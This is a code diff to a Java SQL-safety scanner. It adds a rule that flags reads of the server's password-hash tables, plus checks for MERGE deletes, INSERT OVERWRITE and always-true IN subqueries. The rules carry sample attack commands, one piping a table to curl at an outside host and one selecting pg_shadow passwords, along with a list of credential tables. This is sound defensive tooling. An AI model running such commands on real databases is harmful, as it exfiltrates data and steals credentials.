@@ -54,7 +54,17 @@ public final class SqlScan {
                     + "pg_read_file, LOAD_FILE, INTO OUTFILE)", "psql -c \"COPY users TO PROGRAM 'curl -d @- https://x'\"",
             "query the data and handle files on the client side");
 
-    static final List<Rule> RULES = List.of(DROP, TRUNCATE, DELETE_ALL, WRITE, SCHEMA, PRIVILEGES, SERVER_IO);
+    static final Rule CREDENTIALS = new Rule("sql.credential-read", HIGH,
+            "reads the database's own password hashes or stored credentials (pg_shadow, pg_authid, mysql.user, "
+                    + "sys.sql_logins)", "psql -c 'SELECT usename, passwd FROM pg_shadow'",
+            "query your application's tables; never the server's accounts");
+
+    static final List<Rule> RULES = List.of(DROP, TRUNCATE, DELETE_ALL, WRITE, SCHEMA, PRIVILEGES, SERVER_IO, CREDENTIALS);
+
+    /** Catalog tables and columns that hold the server's password hashes, upper-cased. */
+    private static final List<String> CREDENTIAL_TABLES = List.of("PG_SHADOW", "PG_AUTHID", "ROLPASSWORD", "MYSQL.USER",
+            "AUTHENTICATION_STRING", "SYS.SQL_LOGINS", "PASSWORD_HASH", "SYS.USER$", "DBA_USERS", "MYSQL`.`USER",
+            "SYSTEM.USERS");
 
     private static final int MAX_PARSE = 8192;
     private static final int MAX_SCAN = 1 << 20;
@@ -126,6 +136,18 @@ public final class SqlScan {
         if (io != null) {
             out.add(SERVER_IO.finding(io + ": " + abbreviate(s), evidence));
         }
+        String upper = s.toUpperCase(Locale.ROOT);
+        for (String t : CREDENTIAL_TABLES) {
+            if (upper.contains(t)) {
+                out.add(CREDENTIALS.finding("reads the server's credentials (" + t.toLowerCase(Locale.ROOT) + "): "
+                        + abbreviate(s), evidence));
+                out.signal(Report.Signal.SECRET_SOURCE);
+                break;
+            }
+        }
+        if (upper.contains("PG_TERMINATE_BACKEND") || upper.contains("PG_CANCEL_BACKEND")) {
+            out.add(SCHEMA.finding(MEDIUM, "ends other sessions on the server: " + abbreviate(s), evidence));
+        }
         String w1 = firstWord(s, 0).toUpperCase(Locale.ROOT);
         int after1 = s.indexOf(' ') < 0 ? s.length() : s.indexOf(' ');
         String w2 = firstWord(s, after1).toUpperCase(Locale.ROOT);
@@ -148,12 +170,32 @@ public final class SqlScan {
                 }
             }
             case "TRUNCATE" -> out.add(TRUNCATE.finding("empties a table: " + abbreviate(s), evidence));
+            case "INSERT" -> {
+                if (w2.equals("OVERWRITE")) {
+                    // Hive/Spark/Databricks: the table's (or partition's) rows are replaced by the query's
+                    out.add(TRUNCATE.finding("replaces every row of the table (INSERT OVERWRITE): " + abbreviate(s), evidence));
+                }
+            }
+            case "MERGE" -> {
+                String flat = upper.replaceAll("\\s+", " ");
+                if (flat.contains("THEN DELETE")) {
+                    String target = wordAfter(flat, "MERGE INTO ");
+                    String source = wordAfter(flat, " USING ");
+                    boolean self = target != null && target.equals(source);
+                    out.add(DELETE_ALL.finding(self ? HIGH : MEDIUM, self
+                            ? "deletes every row (MERGE of the table with itself, WHEN MATCHED THEN DELETE): " + abbreviate(s)
+                            : "deletes the rows the merge matches (WHEN MATCHED THEN DELETE): " + abbreviate(s), evidence));
+                }
+            }
             case "DELETE", "UPDATE" -> {
                 Where parsed = whereClause(s, parses[0]++ < MAX_PARSES);
                 boolean where = parsed.present();
                 String always = !where ? null
                         : parsed.condition() == null ? alwaysTrue(s)
                         : AlwaysTrue.holds(parsed.condition()) ? abbreviate(parsed.condition().toString()) : null;
+                if (always == null && where) {
+                    always = inItself(upper.replaceAll("\\s+", " "));
+                }
                 if (always != null) {
                     out.add(DELETE_ALL.finding((w1.equals("DELETE") ? "deletes" : "updates") + " every row (WHERE " + always
                             + " is always true): " + abbreviate(s), evidence));
@@ -201,6 +243,48 @@ public final class SqlScan {
             }
             default -> { }
         }
+    }
+
+    /** The word after {@code marker} (a table name, alias dropped), or null. */
+    private static @org.jspecify.annotations.Nullable String wordAfter(String flat, String marker) {
+        int at = flat.indexOf(marker);
+        if (at < 0) {
+            return null;
+        }
+        int from = at + marker.length();
+        int end = from;
+        while (end < flat.length() && flat.charAt(end) != ' ' && flat.charAt(end) != '(' && flat.charAt(end) != ';') {
+            end++;
+        }
+        return end > from ? flat.substring(from, end) : null;
+    }
+
+    /**
+     * {@code DELETE FROM t WHERE id IN (SELECT id FROM t)}: a condition every row meets, because
+     * the sub-query lists the same column of the same table with no condition of its own; the
+     * condition's text, or null.
+     */
+    private static @org.jspecify.annotations.Nullable String inItself(String flat) {
+        String table = flat.startsWith("DELETE FROM ") ? wordAfter(flat, "DELETE FROM ")
+                : flat.startsWith("UPDATE ") ? wordAfter(flat, "UPDATE ") : null;
+        int where = flat.indexOf(" WHERE ");
+        if (table == null || where < 0) {
+            return null;
+        }
+        String cond = flat.substring(where + 7).strip();
+        if (cond.endsWith(";")) {
+            cond = cond.substring(0, cond.length() - 1).strip();
+        }
+        int in = cond.indexOf(" IN (SELECT ");
+        if (in <= 0 || cond.indexOf(' ') != in) {
+            return null; // only "col IN (SELECT ...)" as the whole condition
+        }
+        String column = cond.substring(0, in);
+        String expected = " IN (SELECT " + column + " FROM " + table + ")";
+        String bare = column.substring(column.indexOf('.') + 1);
+        String expectedBare = " IN (SELECT " + bare + " FROM " + table + ")";
+        String rest = cond.substring(in);
+        return rest.equals(expected) || rest.equals(expectedBare) ? cond : null;
     }
 
     /** Whether a DELETE or UPDATE has a WHERE clause, and the condition when JSqlParser read it. */
